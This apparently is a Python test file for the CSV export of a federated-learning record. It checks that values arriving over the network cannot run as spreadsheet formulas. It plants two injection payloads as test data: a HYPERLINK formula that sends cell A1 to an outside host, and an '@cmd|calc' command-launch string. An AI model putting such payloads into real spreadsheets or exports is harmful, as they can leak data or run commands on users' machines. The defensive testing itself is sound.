"""A record as CSV files."""

import csv

from fedkd_flwr.report.csv_files import write_csv_files


def test_no_name_that_came_over_the_wire_is_computed_by_a_spreadsheet(make_record, tmp_path):
    record = make_record(3, 2)
    name = '=HYPERLINK("http://elsewhere/?"&A1,"st-mary")'
    record.rounds[0].answered.append(name)
    record.party(name).model = "@cmd|calc"
    for path in write_csv_files(record, tmp_path):
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "@"))]
        assert (f"'{name}" in cells) == (path.stem in ("parties", "party_rounds"))


def test_everything_else_is_written_as_the_tables_have_it(make_record, tmp_path):
    record = make_record(3, 2)
    for path in write_csv_files(record, tmp_path):
        plain = record.to_frame(path.stem).to_csv(index=False, lineterminator="\n")
        assert path.read_text(encoding="utf-8") == plain
